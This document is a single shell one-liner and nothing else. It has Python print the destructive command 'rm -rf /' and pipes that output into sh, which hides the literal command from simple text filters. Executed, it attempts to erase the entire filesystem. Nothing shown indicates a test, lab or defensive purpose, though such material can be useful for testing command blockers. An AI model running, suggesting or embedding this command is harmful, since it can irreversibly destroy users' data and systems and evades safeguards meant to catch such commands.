python3 -c 'print("rm -rf /")' | sh
